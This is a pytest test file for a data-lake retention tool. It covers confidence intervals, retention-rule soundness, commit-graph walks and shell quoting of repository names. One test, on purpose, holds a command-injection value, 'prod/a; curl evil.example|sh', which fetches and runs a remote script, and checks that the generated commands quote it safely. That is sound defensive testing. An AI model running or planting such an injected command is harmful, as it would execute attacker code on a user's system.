"""Intervals and sound rules."""

from __future__ import annotations

import random
import shlex
from datetime import datetime, timedelta, timezone
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lakeplan.fleet.judging import MAX_DAYS, advice_of, interval, share_percent, sound
from lakeplan.retention.graph import CommitGraph
from lakeplan.retention.rules import ServerWalk
from lakeplan.values.repository import Branch, Commit, Refs
from lakeplan.values.rules import GcRules

DAYS = st.integers(-(2**31), 2**31 - 1)


@pytest.mark.parametrize(
    ("gone", "asked", "low", "high"),
    [(0, 0, 0, 100), (0, 100, 0, 3.7), (100, 100, 96.3, 100), (50, 100, 40.38, 59.62), (1, 10, 1.79, 40.42)],
)
def it_gives_wilson_s_interval(gone: int, asked: int, low: float, high: float) -> None:
    assert interval(gone, asked) == pytest.approx((low, high), abs=0.01)


@pytest.mark.parametrize(
    ("gone", "every", "percent"),
    [(0, 0, 0), (0, 9, 0), (1, 1_000_000, 0.01), (1, 3, 33.33), (999_999, 1_000_000, 99.99), (9, 9, 100)],
)
def it_rounds_no_share_to_nothing_or_everything(gone: int, every: int, percent: float) -> None:
    assert share_percent(gone, every) == percent


def it_holds_the_share_in_about_95_of_100_samples() -> None:
    draw, hits = random.Random(7), 0
    for _ in range(1_000):
        gone = sum(draw.random() < 0.07 for _ in range(120))
        low, high = interval(gone, 120)
        hits += low <= 7 <= high
    assert 930 <= hits <= 985


@given(DAYS, st.dictionaries(st.sampled_from("abc"), DAYS))
def it_makes_rules_that_keep_no_less(default: int, branches: dict[str, int]) -> None:
    stored = GcRules(default, branches)
    made = sound(stored, ["c"])
    for name in "ab":
        days = stored.days_for(name)
        assert 1 <= made.days_for(name) <= MAX_DAYS
        assert made.days_for(name) >= min(days, MAX_DAYS)
    assert "c" not in made.branches


@pytest.mark.parametrize(("main", "feature"), [("a", "b"), ("b", "a")])
def it_makes_rules_whose_walk_does_not_stop_earlier(main: str, feature: str) -> None:
    """``p`` is only in the walk from ``feature``, which a walk from ``main`` with fewer days could stop."""
    now = datetime(2026, 3, 31, tzinfo=timezone.utc)
    ages = {"r": (70, ""), "p": (69, "r"), main: (64, "p"), "f": (13, "p"), feature: (2, "f")}
    commits = tuple(
        Commit(name, int((now - timedelta(days=age)).timestamp()) * 10**6, "", tuple(parent))
        for name, (age, parent) in ages.items()
    )
    graph = CommitGraph.from_refs(Refs(commits, (Branch("main", main), Branch("feature", feature)), ()))
    stored = GcRules(14, {"main": 0})
    kept, made = (ServerWalk(graph, of).active(now, timezone.utc) for of in (stored, sound(stored, ())))
    assert kept[graph.index["p"]]
    assert all(new or not old for old, new in zip(kept, made, strict=True))


def it_quotes_a_repository_in_commands() -> None:
    """They are there to be pasted into a shell, and a server names its repositories."""
    nothing = {"objects": 0, "amount": None, "gone": 0}
    row: Any = {
        "repository": "prod/a; curl evil.example|sh",
        "destroyed": None,
        "destroyed_tagged": None,
        "next_run": {"at_risk": {"objects": 1}, "tagged": {"objects": 1}},
        "nonsense": [],
        "rules": {},
        "freeable": {"objects": 1},
        "stale_count": 1,
        "remnants": None,
    }
    row["destroyed"] = row["destroyed_tagged"] = {**nothing, "gone": 1}
    commands = [one["command"] for one in advice_of(row, has_failed_runs=True)]
    assert len(commands) == 7
    assert all(shlex.split(command)[-1] == row["repository"] for command in commands)
